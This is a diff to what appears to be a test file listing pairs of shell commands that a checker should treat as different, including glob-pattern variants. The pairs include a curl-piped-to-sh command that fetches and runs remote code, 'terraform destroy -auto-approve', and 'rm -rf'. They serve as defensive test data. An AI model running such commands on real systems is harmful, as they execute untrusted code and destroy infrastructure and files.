@@ -58,6 +58,9 @@ DIFFERENT = [
     ("curl -s http://example.com/x | sh", "curl -s http://example.com/x"),
     ("curl -s http://example.com/x | sh", "curl -s http://example.com/y | sh"),
     ("terraform destroy -auto-approve", "terraform plan -auto-approve"),
+    ("echo hi > .env", "echo h[i] > .env"),
+    ("chmod -R 777 build", "chmod -R 77? build"),
+    ("rm -rf notes.txt src", "rm -rf notes.txt/ src"),
     ("true", "true"),  # nothing is seen, so nothing is proved
 ]
 LEAVING = [
